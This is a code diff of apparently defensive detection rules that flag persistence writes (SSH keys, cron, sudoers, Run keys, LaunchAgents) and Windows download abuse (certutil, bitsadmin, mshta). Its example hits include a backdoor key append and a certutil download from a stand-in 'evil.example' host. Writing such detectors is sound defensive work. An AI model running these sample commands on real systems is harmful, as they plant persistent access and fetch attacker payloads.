@@ -1,4 +1,5 @@
 /** Code and settings that take over a machine, and text that breaks out of a query or a template. */
+import { inCommand } from "../signs.ts";
 import { signsOf } from "./threat.ts";
 
 export const CODE_SIGNS = signsOf("command-injection", [
@@ -88,21 +89,20 @@ export const CODE_SIGNS = signsOf("command-injection", [
     weight: 4,
     explanation: "stays on the machine: a key, a task or a start file of its own",
     keywords: [
-      "authorized_keys",
-      "crontab -",
-      "/etc/cron",
+      ">>",
+      "> /etc/",
+      "> ~/.",
+      "tee ",
+      "| crontab",
+      "|crontab",
       "nopasswd",
-      "/etc/ld.so.preload",
       "ld_preload=",
-      "currentversion\\run",
+      "currentversion\\",
       "schtasks /create",
       "launchagents/",
-      "/etc/rc.local",
-      "/etc/sudoers",
-      "/etc/profile.d",
     ],
     look:
-      /(?<=>\s{0,3}["']?[^\s>"']{0,40})(?:authorized_keys|\/etc\/cron|\/etc\/ld\.so\.preload|\/etc\/rc\.local|\/etc\/sudoers|\/etc\/profile\.d)|(?<=(?:tee|-a)\s{1,3}["']?[^\s"']{0,40})(?:authorized_keys|\/etc\/(?:cron|sudoers|rc\.local))|(?<=\|\s{0,3})crontab\s{1,3}-(?:\s|$)|nopasswd:\s{0,2}all|ld_preload=\/(?:tmp|dev|var)|currentversion\\run|schtasks \/create|launchagents\/[\w.-]{1,60}\.plist/iy,
+      />{1,2}\s{0,3}["']?[^\s>"']{0,60}(?:authorized_keys|\/etc\/cron|\/etc\/ld\.so\.preload|\/etc\/rc\.local|\/etc\/sudoers|\/etc\/profile\.d)|tee\s{1,3}(?:-a\s{1,3})?["']?[^\s"']{0,40}(?:authorized_keys|\/etc\/(?:cron|sudoers|rc\.local))|\|\s?crontab\s{0,3}(?:-(?:\s|$)|$)|nopasswd:\s{0,2}all|ld_preload=\/(?:tmp|dev|var)|currentversion\\run|schtasks \/create|launchagents\/[\w.-]{1,60}\.plist/iy,
     examples: {
       hits: [
         "echo ssh-rsa AAAA >> ~/.ssh/authorized_keys",
@@ -207,8 +207,9 @@ export const CODE_SIGNS = signsOf("command-injection", [
     weight: 4,
     explanation: "a tool of Windows that downloads or runs what it was not made for",
     keywords: ["certutil", "bitsadmin", "mshta", "regsvr00", "rundll00"],
-    look:
-      /certutil(?:\.exe)?\s[^\n]{0,60}(?:-|\/)(?:urlcache|decode)|bitsadmin(?:\.exe)?\s[^\n]{0,20}\/transfer|mshta(?:\.exe)?\s["']?(?:http|javascript|vbscript)|regsvr32(?:\.exe)?\s[^\n]{0,30}\/i:http|rundll32(?:\.exe)?\s["']?javascript/iy,
+    look: inCommand(
+      /certutil(?:\.exe)?\s[^\n]{0,60}(?:-|\/)(?:urlcache|decode)|bitsadmin(?:\.exe)?\s[^\n]{0,20}\/transfer|mshta(?:\.exe)?\s["']?(?:http|javascript|vbscript)|regsvr32(?:\.exe)?\s[^\n]{0,30}\/i:http|rundll32(?:\.exe)?\s["']?javascript/i,
+    ),
     examples: {
       hits: [
         "certutil -urlcache -f http://evil.example/a.exe a.exe",
